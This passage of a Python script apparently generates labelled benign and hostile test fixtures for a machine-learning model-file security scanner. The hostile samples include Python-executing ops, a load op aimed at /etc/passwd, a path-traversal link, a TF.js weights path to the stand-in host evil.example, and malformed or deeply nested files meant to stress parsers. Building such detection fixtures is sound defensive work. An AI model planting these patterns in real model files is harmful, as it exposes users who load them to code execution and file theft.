    custom = ct.proto.Model_pb2.Model()
    custom.specificationVersion = 4
    custom.description.metadata.author = "x"
    custom.customModel.className = "EvilModel"
    hostile("model", custom, "suspicious", "GH-OGF-002")
    custom.Clear()
    custom.specificationVersion = 4
    custom.description.metadata.author = "x"
    custom.linkedModel.linkedModelFile.linkedModelFileName.defaultValue = "../../other"
    hostile("linked", custom, "malicious", "GH-OGF-004")


def paddle():
    """With FLAGS_enable_pir_api=0 in the environment for programs as messages."""
    import paddle as p
    p.seed(1)
    folder = pathlib.Path(tempfile.mkdtemp())
    is_pir = os.environ.get("FLAGS_enable_pir_api") != "0"
    network = p.nn.Sequential(p.nn.Linear(4, 3), p.nn.ReLU(), p.nn.Linear(3, 2))
    p.jit.save(network, str(folder / "m"), input_spec=[p.static.InputSpec([None, 4], "float32")])
    tensors = (folder / "m.pdiparams").read_bytes()
    if is_pir:
        text = (folder / "m.json").read_text()
        put("benign/paddle.json", text.encode(), "safe", format="paddle-pir")
        put("hostile/paddle-py.json", text.replace("1.relu", "1.py_func").encode(), "malicious",
            "GH-OGF-001")
        put("benign/paddle.pdiparams", tensors, "safe", format="paddle-tensors")
        put("hostile/paddle-shape.pdiparams", tensors.replace(
            b"\x08\x05\x10\x03", b"\x08\x05\x10\x7f", 1), "unknown", "GH-GRF-003")
        return
    from paddle.base.proto import framework_pb2 as pb
    program = pb.ProgramDesc.FromString((folder / "m.pdmodel").read_bytes())
    for block in program.blocks:
        for op in block.ops:
            # The stack of the machine that made it.
            kept = [a for a in op.attrs if a.name != "op_callstack"]
            del op.attrs[:]
            op.attrs.extend(kept)
    data = program.SerializeToString()
    put("benign/paddle.pdmodel", data, "safe", format="paddle-program")

    def hostile(name, op, verdict, rule, **attributes):
        program = pb.ProgramDesc.FromString(data)
        new = program.blocks[0].ops.add(type=op)
        for key, value in attributes.items():
            new.attrs.add(name=key, type=2, s=value)
        put(f"hostile/paddle-{name}.pdmodel", program.SerializeToString(), verdict, rule)

    hostile("py", "py_func", "malicious", "GH-OGF-001")
    hostile("load", "load_combine", "malicious", "GH-OGF-004", file_path="/etc/passwd")
    hostile("save", "save", "suspicious", "GH-OGF-003", file_path="x")
    hostile("custom", "evil_op", "suspicious", "GH-OGF-002")
    hostile("engine", "tensorrt_engine", "suspicious", "GH-OGF-005")
    hostile("serve", "listen_and_serv", "suspicious", "GH-OGF-003")


def mxnet():
    """With mxnet 1.9.1 and numpy 1.23.5."""
    import mxnet as mx
    mx.random.seed(1)
    folder = pathlib.Path(tempfile.mkdtemp())
    net = mx.gluon.nn.HybridSequential()
    net.add(mx.gluon.nn.Dense(4, activation="relu"), mx.gluon.nn.BatchNorm(), mx.gluon.nn.Dense(2))
    net.initialize()
    net.hybridize()
    net(mx.nd.ones((2, 3)))
    net.export(str(folder / "m"))
    symbol = (folder / "m-symbol.json").read_text()
    put("benign/mxnet-symbol.json", symbol.encode(), "safe", format="mxnet-symbol")
    put("benign/mxnet.params", (folder / "m-0000.params").read_bytes(), "safe",
        format="mxnet-params")
    mx.nd.save(str(folder / "l"), [
        mx.nd.ones((2, 2), dtype="int32"), mx.nd.ones((2, 2)).tostype("csr"),
        mx.nd.ones((2, 2)).tostype("row_sparse")])
    put("benign/mxnet-sparse.params", (folder / "l").read_bytes(), "safe", format="mxnet-params")
    put("hostile/mxnet-custom-symbol.json", symbol.replace(
        '"op": "BatchNorm"', '"op": "Custom"').encode(), "suspicious", "GH-OGF-002")
    put("hostile/mxnet-native-symbol.json", symbol.replace(
        '"op": "BatchNorm"', '"op": "_Native"').encode(), "malicious", "GH-OGF-001")
    put("hostile/mxnet-count.params", (folder / "l").read_bytes()[:16] + b"\xff" * 8 + b"\0" * 64,
        "suspicious", "GH-GRF-008")


def record(data):
    """A record with its two checksums."""
    table = []
    for value in range(256):
        for _ in range(8):
            value = value >> 1 ^ 0x82F63B78 if value & 1 else value >> 1
        table.append(value)

    def masked(part):
        crc = 0xFFFFFFFF
        for byte in part:
            crc = table[(crc ^ byte) & 255] ^ crc >> 8
        crc ^= 0xFFFFFFFF
        return struct.pack("<I", ((crc >> 15 | crc << 17) + 0xA282EAD8) & 0xFFFFFFFF)

    length = struct.pack("<Q", len(data))
    return length + masked(length) + data + masked(data)


def other():
    def layer(name, kind, *more):
        return field(100, field(1, name) + field(2, kind) + b"".join(more))

    blob = field(7, field(7, field(1, b"\2\3")) + field(5, struct.pack("<6f", *range(6))))
    net = field(1, b"LeNet") + layer(b"data", b"Input") + layer(b"ip", b"InnerProduct", blob)
    put("benign/net.caffemodel", net, "safe", format="caffe")
    put("hostile/python.caffemodel", net + layer(b"p", b"Python", field(130, field(1, b"os")
        + field(2, b"X"))), "malicious", "GH-OGF-001")
    put("hostile/custom.caffemodel", net + layer(b"p", b"Evil"), "suspicious", "GH-OGF-002")
    put("benign/net.prototxt", b'''name: "LeNet"
# A comment.
layer { name: "data" type: "Input" top: "data" input_param { shape: { dim: 1 dim: 3 } } }
layer {
  name: "ip" type: "InnerProduct" bottom: "data" top: "ip"
  inner_product_param { num_output: 10 weight_filler { type: "xavier" } }
  include: { phase: TRAIN }
}
''', "safe", format="caffe-text")
    put("hostile/python.prototxt", b'''layer {
  name: "p" type: \'Pyth\' "on" python_param { module: "os" layer: "X" }
}
''', "malicious", "GH-OGF-001")

    def value(kind, number_, content):
        return number(1, 1) + number(2, kind) + (
            field(number_, content) if isinstance(content, bytes) else number(number_, content))

    def entry(key, content):
        return field(2, field(1, key) + field(2, content))

    book = number(1, 1) + entry(b"name", value(6, 8, b"f")) + entry(b"root_uid", value(3, 5, 7)) \
        + entry(b"inputs", value(9, 11, field(1, value(10, 12, number(1, 1) + entry(
            b"uid", value(6, 8, b"Input0"))))))
    put("benign/model.cntk", book, "safe", format="cntk")
    put("hostile/udf.cntk", book + entry(b"udf_module_name", value(6, 8, b"evil")), "malicious",
        "GH-OGF-001")
    put("benign/net.param", b"7767517\n2 2\nInput data 0 1 data 0=3\n"
        b"Convolution conv 1 1 data out 0=8 1=3\n", "safe", format="ncnn")
    put("hostile/net.param", b"7767517\n2 2\nInput data 0 1 data 0=3\nEvil conv 1 1 data out 0=8\n",
        "suspicious", "GH-OGF-002")
    put("hostile/model.engine", b"ftrt" + bytes(range(256)) * 4, "suspicious", "GH-OGF-005")
    put("hostile/model.rknn", b"RKNN\0\0\0\0" + bytes(range(256)) * 4, "suspicious", "GH-OGF-005")

    pieces = b"".join(field(1, field(1, p) + b"\x15" + struct.pack("<f", -n))
                      for n, p in enumerate([b"<unk>", b"<script>", b"\xe2\x96\x81a", b"b"]))
    put("benign/tokenizer.model", pieces + field(2, field(2, b"m") + number(4, 4)) + field(
        3, field(1, b"nmt_nfkc") + field(2, bytes(range(64)))), "safe", format="sentencepiece")
    page = {"format": "graph-model", "modelTopology": {"node": [
        {"name": "x", "op": "Placeholder"}, {"name": "y", "op": "MatMul", "input": ["x", "x"]}]},
        "weightsManifest": [{"paths": ["group1-shard1of1.bin"], "weights": []}]}
    put("benign/tfjs.json", json.dumps(page).encode(), "safe", format="tensorflow-js")
    page["weightsManifest"][0]["paths"] = ["https://evil.example/w.bin"]
    put("hostile/tfjs-path.json", json.dumps(page).encode(), "malicious", "GH-OGF-004")
    page["modelTopology"]["node"][1]["op"] = "PyFunc"
    put("hostile/tfjs-py.json", json.dumps(page).encode(), "malicious", "GH-TF-001")
    put("hostile/described.engine", struct.pack("<I", 11) + b'{"a": "b"}\n' + b"ftrt" + bytes(
        range(200)), "suspicious", "GH-OGF-005")
    put("benign/records.tfrecord", b"".join(record(d) for d in [b"abc", b"", b"x" * 300]), "safe",
        format="tfrecord")
    put("hostile/records.tfrecord", record(b"abc") + record(b"def")[:-3] + b"\0\0\0", "unknown",
        "GH-GRF-003")

    # Shapes of messages that a reader could lose itself in.
    deep = b""
    for _ in range(300):
        deep = field(1, deep)
    put("hostile/deep.pb", deep, "unknown", None)
    many = field(7, field(1, field(4, b"Relu")) * 5_000) + number(1, 8) + field(8, number(2, 21))
    put("benign/many.onnx", many, "safe", format="onnx")
    put("hostile/groups.onnx", number(1, 8) + field(8, number(2, 21)) + field(
        7, field(1, field(4, b"Relu"))) + b"\x9b\x06" * 5_000, "unknown", None)
    put("hostile/length.onnx", number(1, 8) + b"\x3a\xff\xff\xff\xff\xff\xff\xff\xff\x7f",
        "unknown", None)


if __name__ == "__main__":
    for word in sys.argv[1:]:
        globals()[word]()
        BOOK.write_text(json.dumps(EXPECTED, indent=1, sort_keys=True) + "\n")
        print(word, len(EXPECTED))
